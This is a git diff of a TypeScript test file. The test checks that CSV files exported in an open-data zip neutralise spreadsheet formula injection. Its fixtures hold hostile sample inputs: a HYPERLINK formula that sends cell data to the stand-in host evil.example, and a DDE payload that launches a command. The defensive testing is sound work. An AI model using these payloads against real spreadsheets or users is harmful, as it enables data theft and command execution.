@@ -1,10 +1,9 @@
 import { parse } from "csv-parse/sync";
 import { strFromU8, unzipSync } from "fflate";
 import { describe, expect, it } from "vitest";
-import { parseMarkdown } from "#src/content/parse.ts";
 import { emptyFields } from "#src/features/case-studies/domain.ts";
 import { renderOpenData } from "#src/publishing/open-data.ts";
-import type { Publication } from "#src/publishing/publication.ts";
+import { publicationOf, sectionOf } from "#test/helpers/publication.ts";
 
 // Every CSV file of the open-data zip carries text written by members: none may reach a
 // spreadsheet as a formula (OWASP CSV injection).
@@ -12,19 +11,11 @@ import type { Publication } from "#src/publishing/publication.ts";
 const ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
 const md = `Text.\n\n::recommendation{ref=r1}`;
 
-const pub: Publication = {
-  reportTitle: "Study Report",
-  title: "Study Report",
-  edition: "2026",
-  date: "2026-03-31",
-  lang: "en",
-  draft: false,
-  foreword: null,
+const pub = publicationOf({
   caseStudies: [{ slug: "cs", organization: "@Org", technologies: [], fields: { ...emptyFields("en"), title: ATTACK, summary: "-1+2" } }],
-  figures: {},
   recommendations: { r1: { text: "+cmd|' /C calc'!A0", retired: false } },
-  chapters: [{ title: "\tChapter", slug: "chapter", sections: [{ heading: ATTACK, slug: "s", markdown: md, tree: parseMarkdown(md), lang: "en" }] }],
-};
+  chapters: [{ title: "\tChapter", slug: "chapter", sections: [sectionOf(ATTACK, "s", md)] }],
+});
 
 describe("open-data CSV files", () => {
   it("neutralize every cell that would start a formula", () => {
